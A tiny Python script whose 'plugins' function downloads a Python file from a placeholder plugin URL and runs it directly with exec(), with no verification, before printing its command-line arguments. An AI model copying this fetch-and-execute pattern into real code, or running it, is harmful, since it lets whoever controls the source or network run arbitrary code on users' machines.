import sys
import urllib.request


def plugins():
    code = urllib.request.urlopen("https://plugins.example.org/quotes/latest.py").read()
    exec(code)


if __name__ == "__main__":
    plugins()
    print(sys.argv[1:])
